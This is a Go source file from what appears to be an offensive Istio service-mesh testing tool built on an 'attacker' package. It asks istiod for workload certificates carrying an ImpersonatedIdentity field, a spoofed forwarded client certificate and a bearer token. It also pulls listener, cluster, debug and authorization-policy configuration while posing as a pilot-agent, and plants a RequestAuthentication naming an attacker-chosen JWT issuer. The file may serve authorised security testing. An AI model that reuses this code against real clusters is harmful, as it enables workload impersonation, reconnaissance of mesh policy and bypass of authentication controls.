// Package wire is how Istio's control plane is asked: for a leaf by the gRPC
// service of its certificate authority, for configuration as a pilot-agent asks,
// and for another issuer of tokens by its own kind of object.
package wire

import (
	"context"
	"strings"
	"time"

	"google.golang.org/protobuf/encoding/protowire"

	"github.com/meshbreach/meshbreach/attacker"
)

// ParameterCluster is the id of the cluster that workloads say they are of, in
// Authority.Parameters.
const ParameterCluster = "cluster"

// A Protocol is Istio's. The zero value works.
type Protocol struct{}

var (
	_ attacker.AuthorityProtocol   = Protocol{}
	_ attacker.DiscoveryProtocol   = Protocol{}
	_ attacker.TokenIssuerProtocol = Protocol{}
)

// Name is the name in Authority.Protocol.
func (Protocol) Name() string { return "istio" }

// TokenAudience is what istiod asks of a token.
func (Protocol) TokenAudience() string { return "istio-ca" }

// RequestLeaf calls istio.v1.auth.IstioCertificateService, as in istio.io/api
// security/v1alpha1/ca.proto.
func (Protocol) RequestLeaf(ctx context.Context, f attacker.Foothold, q attacker.LeafRequest) (*attacker.KeyPair, attacker.Observation, error) {
	key, csr, err := attacker.NewCSR(q.Identities)
	if err != nil {
		return nil, attacker.Observation{}, err
	}
	p := attacker.Procedure{
		Nonce: q.Nonce, Address: q.Authority.Address, Method: "/istio.v1.auth.IstioCertificateService/CreateCertificate",
		Metadata: metadata(q), Message: certificateRequest(q, csr),
	}
	if q.Authority.ServerName != "" {
		p.TLS = &attacker.TLS{Leaf: q.Leaf, ServerName: q.Authority.ServerName, ALPN: []string{"h2"}}
	}
	answer, o := f.Invoke(ctx, p)
	if o.Refusal != nil {
		if o.Refusal.Ruled() {
			o.Refusal.Layer = attacker.LayerCA
		}
		return nil, o, nil
	}
	return &attacker.KeyPair{Chain: strings.Join(texts(answer, 1), ""), Key: key}, o, nil
}

func metadata(q attacker.LeafRequest) map[string][]string {
	out := map[string][]string{}
	if cluster := q.Authority.Parameters[ParameterCluster]; cluster != "" {
		out["clusterid"] = []string{cluster}
	}
	if q.Token != "" {
		out["authorization"] = []string{"Bearer " + q.Token}
	}
	if q.Forwarded != "" {
		out["x-forwarded-client-cert"] = []string{"URI=" + q.Forwarded}
	}
	return out
}

// certificateRequest is an IstioCertificateRequest.
func certificateRequest(q attacker.LeafRequest, csr string) []byte {
	message := text(nil, 1, csr)
	if q.Validity > 0 {
		message = protowire.AppendTag(message, 3, protowire.VarintType)
		message = protowire.AppendVarint(message, uint64(q.Validity/time.Second))
	}
	if q.Impersonate != "" {
		message = text(message, 4, structOf([2]string{"ImpersonatedIdentity", q.Impersonate}))
	}
	return message
}

// DiscoveryRequest is a request of everything of one type, with the node as a
// pilot-agent fills it in.
func (Protocol) DiscoveryRequest(q attacker.DiscoveryRequest) ([]byte, error) {
	fields := [][2]string{{"NAMESPACE", q.Namespace}, {"CLUSTER_ID", q.Authority.Parameters[ParameterCluster]}}
	if q.Account != "" {
		fields = append(fields, [2]string{"SERVICE_ACCOUNT", q.Account})
	}
	kind, name := "type.googleapis.com/envoy.config.listener.v3.Listener", ""
	switch q.Ask {
	case "clusters":
		kind = "type.googleapis.com/envoy.config.cluster.v3.Cluster"
	case "debug":
		kind, name = "istio.io/debug", "syncz"
	case "policies":
		kind = "security.istio.io/v1/AuthorizationPolicy"
		fields = append(fields, [2]string{"GENERATOR", "api"})
	}
	node := text(text(nil, 1, q.Node), 3, structOf(fields...))
	request := text(nil, 2, string(node))
	if name != "" {
		request = text(request, 3, name)
	}
	return text(request, 4, kind), nil
}

// IssuerObject is a RequestAuthentication for the proxy of one workload alone:
// nobody else's proxy is told of it.
func (Protocol) IssuerObject(q attacker.TokenIssuer) (path string, object map[string]any) {
	return "/apis/security.istio.io/v1/namespaces/" + q.Namespace + "/requestauthentications", map[string]any{
		"apiVersion": "security.istio.io/v1", "kind": "RequestAuthentication",
		"metadata": map[string]any{"name": q.Name},
		"spec": map[string]any{
			"selector": map[string]any{"matchLabels": map[string]any{"app": q.Workload}},
			"jwtRules": []any{map[string]any{"issuer": q.Issuer, "jwksUri": q.Keys}},
		},
	}
}

// structOf is a google.protobuf.Struct of texts.
func structOf(fields ...[2]string) string {
	var out []byte
	for _, f := range fields {
		value := text(nil, 3, f[1]) // of a google.protobuf.Value
		out = text(out, 1, string(text(text(nil, 1, f[0]), 2, string(value))))
	}
	return string(out)
}

// text adds a field of bytes, which is also what text and messages are.
func text(to []byte, number protowire.Number, value string) []byte {
	return protowire.AppendString(protowire.AppendTag(to, number, protowire.BytesType), value)
}

// texts are a field's values, in order; what is no message has none.
func texts(message []byte, number protowire.Number) []string {
	var out []string
	for len(message) > 0 {
		n, kind, size := protowire.ConsumeTag(message)
		if size < 0 {
			return nil
		}
		message = message[size:]
		if n == number && kind == protowire.BytesType {
			value, size := protowire.ConsumeBytes(message)
			if size < 0 {
				return nil
			}
			out, message = append(out, string(value)), message[size:]
			continue
		}
		size = protowire.ConsumeFieldValue(n, kind, message)
		if size < 0 {
			return nil
		}
		message = message[size:]
	}
	return out
}
